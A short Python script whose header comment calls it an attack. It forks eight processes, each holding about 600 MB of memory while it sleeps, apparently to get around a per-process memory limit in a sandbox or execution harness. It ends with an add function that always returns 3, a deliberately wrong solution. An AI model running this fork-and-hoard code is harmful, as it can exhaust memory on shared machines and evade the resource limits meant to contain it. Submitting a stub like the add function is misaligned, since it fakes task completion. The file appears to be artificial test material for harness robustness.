# Attack: let many processes take what one may not.
import os
import time

for _ in range(8):
    if os.fork() == 0:
        hoard = bytearray(b"x" * 600_000_000)
        time.sleep(1000)
        os._exit(0)


def add(a, b):
    return 3
